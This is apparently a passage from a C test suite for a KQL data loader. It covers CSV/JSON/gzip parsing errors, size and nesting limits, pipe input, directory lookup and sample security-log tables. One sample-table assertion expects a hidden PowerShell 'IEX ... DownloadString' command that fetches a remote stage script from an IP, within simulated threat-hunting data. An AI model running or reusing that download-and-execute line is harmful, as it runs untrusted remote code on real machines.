    {".jsonl", "{\"a\":1,\"a\":2}\n", "F:1:12: second value for column a in one record"},
    {".jsonl", "[1]\n", "F:1:2: expected a JSON object as array element"},
    {".jsonl", "{\"\xc3\xa9\xc3\xa9\":\"\xff\"}\n", "F:1:8: invalid UTF-8 (byte 0xFF)"},
    {".json", "[{\"a\":1},\n {\"a\":2}\n", "F:3:1: unexpected end of JSON input (the array is not closed)"},
    {".json", "[{\"a\":1}] x", "F:1:11: unexpected text after the JSON array"},
    {".json", "[{\"a\":1},]", "F:1:10: expected a JSON object as array element"},
    {".json", "[{\"a\":[1,2}]", "F:1:11: expected ',' or ']' in JSON array"},
    {".json", "{\"a\":1}\n\"x\"", "F:2:1: expected '{' (each record must be a JSON object)"},
    {".json", "x", "F:1:1: expected '[' or '{' at the start of JSON input"},
    {".json", "[{\"a\":\"unterminated}]", "F:1:22: unexpected end of JSON input"},
  };
  for(unsigned i=0; i<sizeof(aCase)/sizeof(aCase[0]); i++){
    sqlite3 *db = openDb();
    char *zPath = tempText(aCase[i].zSuffix, aCase[i].zIn);
    char *zErr = loadErr(db, zPath, "t", 0);
    cr_expect_str_eq(zErr, aCase[i].zWant, "case %u", i);
    free(zErr);
    cleanup(db, 0, zPath);
  }
}

Test(loaders, json_nesting_limit){
  size_t n = 0;
  char *z = malloc(4000);
  char *zPath, *zErr;
  sqlite3 *db = openDb();
  KqlLoadSchema *p;
  /* 500 levels load */
  n = (size_t)sprintf(z, "{\"a\":");
  for(int i=0; i<500; i++) z[n++] = '[';
  for(int i=0; i<500; i++) z[n++] = ']';
  n += (size_t)sprintf(z+n, "}\n");
  zPath = tempFile(".jsonl", z, n);
  p = loadOk(db, zPath, "t", 0);
  cr_expect_eq(qInt(db, "SELECT length(a) FROM t"), 1000);
  kqlLoadSchemaFree(p);
  unlink(zPath);
  free(zPath);
  /* 600 do not, and do not overflow the stack either */
  n = (size_t)sprintf(z, "{\"a\":");
  for(int i=0; i<600; i++) z[n++] = '[';
  for(int i=0; i<600; i++) z[n++] = ']';
  n += (size_t)sprintf(z+n, "}\n");
  zPath = tempFile(".jsonl", z, n);
  zErr = loadErr(db, zPath, "t2", 0);
  cr_expect_str_eq(zErr, "F:1:517: JSON nested too deeply");
  free(zErr);
  free(z);
  cleanup(db, 0, zPath);
}

Test(loaders, utf16_is_refused_clearly){
  sqlite3 *db = openDb();
  char *zPath = tempFile(".csv", "\xFF\xFE" "a\0,\0b\0", 8);
  char *zErr = loadErr(db, zPath, "t", 0);
  cr_expect_str_eq(zErr, "F:1:1: UTF-16 input is not supported (convert the file to UTF-8)");
  free(zErr);
  cleanup(db, 0, zPath);
}

Test(loaders, json_catalogue_conversions){
  static const KqlColDef aCol[] = {
    {"s", KQL_T_STRING}, {"l", KQL_T_LONG}, {"r", KQL_T_REAL}, {"b", KQL_T_BOOL},
    {"dt", KQL_T_DATETIME}, {"dy", KQL_T_DYNAMIC},
  };
  static const KqlTableDef def = {"T", 6, aCol};
  sqlite3 *db = openDb();
  char *zPath = tempText(".jsonl",
    "{\"s\": 1.50, \"l\": \"12\", \"r\": 3, \"b\": \"true\", \"dt\": \"2026-06-03\", \"dy\": \"txt\"}\n"
    "{\"s\": true, \"l\": 2.0, \"r\": \"NaN\", \"b\": 0, \"dt\": null, \"dy\": 5}\n"
    "{\"s\": {\"a\" : 1}, \"l\": null, \"r\": null, \"b\": null, \"dy\": null}\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", &def);
  char *zErr;
  EXPECT_Q(db, "SELECT s||'|'||l||'|'||r||'|'||b||'|'||dy FROM t WHERE rowid=1", "1.50|12|3.0|1|\"txt\"");
  EXPECT_Q(db, "SELECT s||'|'||l||'|'||quote(r)||'|'||b||'|'||quote(dt)||'|'||dy FROM t WHERE rowid=2",
           "true|2|'NaN'|0|NULL|5");
  EXPECT_Q(db, "SELECT s||'|'||quote(l)||quote(r)||quote(b)||quote(dt)||quote(dy) FROM t WHERE rowid=3",
           "{\"a\":1}|NULLNULLNULLNULLNULL");
  kqlLoadSchemaFree(p);
  unlink(zPath);
  free(zPath);
  zPath = tempText(".jsonl", "{\"dt\": 17}\n");
  zErr = loadErr(db, zPath, "t2", &def);
  cr_expect_str_eq(zErr, "F:1:8: cannot parse datetime \"17\" for column dt");
  free(zErr);
  cleanup(db, 0, zPath);
}

/*************************** gzip *********************************************/

Test(loaders, gzip_by_name_and_by_magic){
  static const char zCsv[] = "a,b\n1,x\n2,y\n";
  static const char zJsonl[] = "{\"a\":1}\n{\"a\":2}\n";
  char *azPath[3];
  azPath[0] = tempGzip(".csv.gz", zCsv);
  azPath[1] = tempGzip(".csv", zCsv);            /* compressed, plain name */
  azPath[2] = tempGzip(".jsonl.gz", zJsonl);
  for(int i=0; i<3; i++){
    sqlite3 *db = openDb();
    KqlLoadSchema *p = loadOk(db, azPath[i], "t", 0);
    cr_expect_eq(p->nRow, 2, "%s", azPath[i]);
    EXPECT_Q(db, "SELECT sum(a) FROM t", "3");
    cleanup(db, p, azPath[i]);
  }
}

Test(loaders, gzip_truncated_is_an_error){
  char *zPath = tempGzip(".csv.gz", "a,b\n1,x\n2,y\n3,z\n");
  FILE *f = fopen(zPath, "rb");
  char aBuf[4096];
  size_t n = fread(aBuf, 1, sizeof(aBuf), f);
  sqlite3 *db = openDb();
  char *zErr;
  fclose(f);
  f = fopen(zPath, "wb");
  fwrite(aBuf, 1, n-12, f);                       /* cut the deflate end and trailer */
  fclose(f);
  zErr = loadErr(db, zPath, "t", 0);
  cr_expect(strncmp(zErr, "F: read error: ", 15)==0, "%s", zErr);
  free(zErr);
  cleanup(db, 0, zPath);
}

/*************************** limits and sizes *********************************/

/* A cell longer than 64 MiB is refused, not truncated; one just under it
** loads whole. */
Test(loaders, huge_field, .timeout = 120){
  size_t nBig = 64u*1024*1024 + 10;
  char *z = malloc(nBig + 64);
  char *zPath, *zErr;
  sqlite3 *db = openDb();
  memcpy(z, "a,b\n1,", 6);
  memset(z+6, 'x', nBig);
  memcpy(z+6+nBig, "\n", 1);
  zPath = tempFile(".csv", z, nBig + 7);
  zErr = loadErr(db, zPath, "t", 0);
  cr_expect_str_eq(zErr, "F:2:3: field longer than 64 MiB");
  free(zErr);
  unlink(zPath);
  free(zPath);
  /* JSON: same limit for a string value */
  memcpy(z, "{\"a\":\"", 6);
  memset(z+6, 'y', nBig);
  memcpy(z+6+nBig, "\"}\n", 3);
  zPath = tempFile(".jsonl", z, nBig + 9);
  zErr = loadErr(db, zPath, "t", 0);
  cr_expect_str_eq(zErr, "F:1:6: value longer than 64 MiB");
  free(zErr);
  unlink(zPath);
  free(zPath);
  /* 20 MiB quoted cell with newlines: loads intact */
  {
    size_t nMid = 20u*1024*1024;
    memcpy(z, "a,b\n1,\"", 7);
    for(size_t i=0; i<nMid; i++) z[7+i] = (i%1000)==999 ? '\n' : 'z';
    memcpy(z+7+nMid, "\"\n2,x\n", 6);
    zPath = tempFile(".csv", z, nMid + 13);
    KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
    cr_expect_eq(p->nRow, 2);
    cr_expect_eq(qInt(db, "SELECT length(b) FROM t WHERE a=1"), (long long)nMid);
    cleanup(db, p, zPath);
  }
  free(z);
}

/* Records that straddle the reader's block boundaries and many rows. */
Test(loaders, many_rows_across_blocks, .timeout = 120){
  size_t nAlloc = 40u*1024*1024, n = 0;
  char *z = malloc(nAlloc);
  char *zPath;
  sqlite3 *db = openDb();
  KqlLoadSchema *p;
  n += (size_t)sprintf(z+n, "id,name,note,when\n");
  for(int i=0; i<300000 && n+200<nAlloc; i++){
    n += (size_t)sprintf(z+n, "%d,host-%d,\"note, %d\nsecond \"\"line\"\"\",2026-06-%02dT%02d:%02d:%02d.%03dZ\n",
                         i, i%977, i, 1+i%28, i%24, i%60, (i/60)%60, i%1000);
  }
  zPath = tempFile(".csv", z, n);
  p = loadOk(db, zPath, "t", 0);
  cr_expect_eq(p->nRow, 300000);
  cr_expect_eq(p->aeType[3], KQL_T_DATETIME);
  EXPECT_Q(db, "SELECT note FROM t WHERE id=123456", "note, 123456\nsecond \"line\"");
  EXPECT_Q(db, "SELECT sum(id) FROM t", "44999850000");
  cr_expect_eq(qInt(db, "SELECT \"when\" FROM t WHERE id=299999"), ticks("2026-06-08T23:59:19.999Z"));
  free(z);
  cleanup(db, p, zPath);
}

/* A pipe can be read only once; the loader copies it and reads the copy. */
Test(loaders, pipe_input){
  char zDir[] = "/tmp/kqlload-fifo-XXXXXX";
  char zFifo[64];
  pid_t pid;
  int status = 0;
  sqlite3 *db = openDb();
  KqlLoadSchema *p;
  cr_assert_not_null(mkdtemp(zDir));
  snprintf(zFifo, sizeof(zFifo), "%s/in", zDir);
  cr_assert_eq(mkfifo(zFifo, 0600), 0);
  pid = fork();
  cr_assert_geq(pid, 0);
  if( pid==0 ){
    FILE *f = fopen(zFifo, "w");
    fputs("a,b\n", f);
    for(int i=0; i<5000; i++) fprintf(f, "%d,x%d\n", i, i);
    fclose(f);
    _exit(0);
  }
  p = loadOk(db, zFifo, "t", 0);
  waitpid(pid, &status, 0);
  cr_expect_eq(p->nRow, 5000);
  cr_expect_eq(p->aeType[0], KQL_T_LONG);
  EXPECT_Q(db, "SELECT b FROM t WHERE a=4999", "x4999");
  unlink(zFifo);
  rmdir(zDir);
  cleanup(db, p, 0);
}

/*************************** data directory ***********************************/

Test(loaders, find_in_dir){
  char *z = kqlLoadFindInDir("tables/samples", "CommonSecurityLog");
  cr_assert_not_null(z);
  cr_expect_str_eq(z, "tables/samples/CommonSecurityLog.csv");
  free(z);
  z = kqlLoadFindInDir("tables/samples/", "DeviceNetworkEvents");
  cr_assert_not_null(z);
  cr_expect_str_eq(z, "tables/samples/DeviceNetworkEvents.jsonl");
  free(z);
  cr_expect_null(kqlLoadFindInDir("tables/samples", "SigninLogs"));
  cr_expect_null(kqlLoadFindInDir("tables/samples", "../samples/CommonSecurityLog"));
  cr_expect_null(kqlLoadFindInDir("tables", "samples/CommonSecurityLog"));
  cr_expect_null(kqlLoadFindInDir("tables/samples", ".hidden"));
  cr_expect_null(kqlLoadFindInDir("tables/samples", ""));
  cr_expect_null(kqlLoadFindInDir("tables/samples", "commonsecuritylog"));
}

Test(loaders, find_in_dir_order_and_gz){
  char zDir[] = "/tmp/kqlload-dir-XXXXXX";
  char zPath[256];
  char *z;
  FILE *f;
  cr_assert_not_null(mkdtemp(zDir));
  snprintf(zPath, sizeof(zPath), "%s/T.jsonl.gz", zDir);
  f = fopen(zPath, "w"); fclose(f);
  z = kqlLoadFindInDir(zDir, "T");
  cr_expect(z && strcmp(z, zPath)==0, "%s", z ? z : "NULL");
  free(z);
  snprintf(zPath, sizeof(zPath), "%s/T.tsv", zDir);
  f = fopen(zPath, "w"); fclose(f);
  z = kqlLoadFindInDir(zDir, "T");
  cr_expect(z && strcmp(z, zPath)==0, "%s", z ? z : "NULL");
  free(z);
  unlink(zPath);
  snprintf(zPath, sizeof(zPath), "%s/T.jsonl.gz", zDir);
  unlink(zPath);
  rmdir(zDir);
}

/*************************** sample tables ************************************/

Test(loaders, sample_common_security_log){
  const KqlTableDef *pDef = kqlCatalogFind("CommonSecurityLog", -1);
  sqlite3 *db = openDb();
  KqlLoadSchema *p = loadOk(db, "tables/samples/CommonSecurityLog.csv", "CommonSecurityLog", pDef);
  cr_expect_eq(p->nRow, 386);
  cr_expect_eq(p->nCol, pDef->nCol);                 /* every header maps to the catalogue */
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"DestinationIP#1081\" IN "
               "('156.247.40.190','82.23.246.160') OR \"SourceIP#1c\" IN ('156.247.40.190','82.23.246.160')",
           "15");
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"DestinationIP#1081\"='156.247.40.190'", "6");
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"DestinationIP#1081\"='82.23.246.160'", "4");
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"SourceIP#1c\"='156.247.40.190'", "3");
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"SourceIP#1c\"='82.23.246.160'", "2");
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE DestinationPort=12159", "12");
  /* near misses are there, unchanged */
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"DestinationIP#1081\" IN "
               "('82.23.246.16','82.23.246.1600','156.247.40.19','82.23.246.160 ','::ffff:156.247.40.190')"
               " OR \"SourceIP#1c\"=' 82.23.246.160'", "6");
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE RequestURL LIKE '%156.247.40.190%'"
               " OR Message LIKE '%82.23.246.160%' OR DeviceCustomString1='156.247.40.190'", "3");
  /* typed columns */
  EXPECT_Q(db, "SELECT typeof(TimeGenerated)||typeof(DestinationPort)||typeof(SentBytes)"
               " FROM CommonSecurityLog LIMIT 1", "integerintegerinteger");
  cr_expect_eq(qInt(db, "SELECT min(TimeGenerated) FROM CommonSecurityLog WHERE \"DestinationIP#1081\"='156.247.40.190'"),
               ticks("2026-06-03T08:15:00Z"));
  cr_expect_eq(qInt(db, "SELECT max(TimeGenerated) FROM CommonSecurityLog WHERE \"DestinationIP#1081\"='156.247.40.190'"),
               ticks("2026-06-03T08:40:10.585Z"));
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE Message LIKE 'Multi-line syslog payload:' || char(10) || 'second line%'", "1");
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE Message LIKE 'User agent \"Mozilla%'", "1");
  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE AdditionalExtensions='' AND StartTime IS NULL", "386");
  cleanup(db, p, 0);
}

Test(loaders, sample_device_network_events){
  const KqlTableDef *pDef = kqlCatalogFind("DeviceNetworkEvents", -1);
  sqlite3 *db = openDb();
  KqlLoadSchema *p = loadOk(db, "tables/samples/DeviceNetworkEvents.jsonl", "DeviceNetworkEvents", pDef);
  cr_expect_eq(p->nRow, 359);
  cr_expect_eq(p->nCol, pDef->nCol);
  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE \"RemoteIP#1c\" IN ('156.247.40.190','82.23.246.160')",
           "18");
  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE \"RemoteIP#1c\"='156.247.40.190' AND RemotePort=12159"
               " AND InitiatingProcessFileName='AudioDriver.exe'", "13");
  EXPECT_Q(db, "SELECT group_concat(n, ',') FROM (SELECT count(*) AS n FROM DeviceNetworkEvents"
               " WHERE RemotePort=12159 GROUP BY DeviceName, \"RemoteIP#1c\" ORDER BY n DESC)", "13,4,2");
  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE \"RemoteIP#1c\" IN "
               "('82.23.246.16','156.247.40.19','82.23.246.1600','::ffff:156.247.40.190',' 82.23.246.160')", "5");
  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE json_extract(AdditionalFields,'$.proxy')='82.23.246.160'", "1");
  EXPECT_Q(db, "SELECT count(*)>0 FROM DeviceNetworkEvents"
               " WHERE InitiatingProcessAccountName='j\xc3\xbcrgen.m\xc3\xbcller'", "1");
  EXPECT_Q(db, "SELECT typeof(Timestamp)||typeof(RemotePort)||typeof(IsInitiatingProcessRemoteSession)"
               "||typeof(InitiatingProcessCreationTime) FROM DeviceNetworkEvents LIMIT 1",
           "integerintegerintegerinteger");
  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE IsInitiatingProcessRemoteSession=0", "359");
  cr_expect_eq(qInt(db, "SELECT min(Timestamp) FROM DeviceNetworkEvents WHERE \"RemoteIP#1c\"='156.247.40.190'"),
               ticks("2026-06-03T08:15:04.1234567Z"));
  EXPECT_Q(db, "SELECT InitiatingProcessCommandLine FROM DeviceNetworkEvents WHERE InitiatingProcessFileName='powershell.exe'",
           "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
           "'http://82.23.246.160/stage.ps1')\"");
  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE AdditionalFields IS NOT NULL"
               " AND json_valid(AdditionalFields)", "16");
  cleanup(db, p, 0);
}
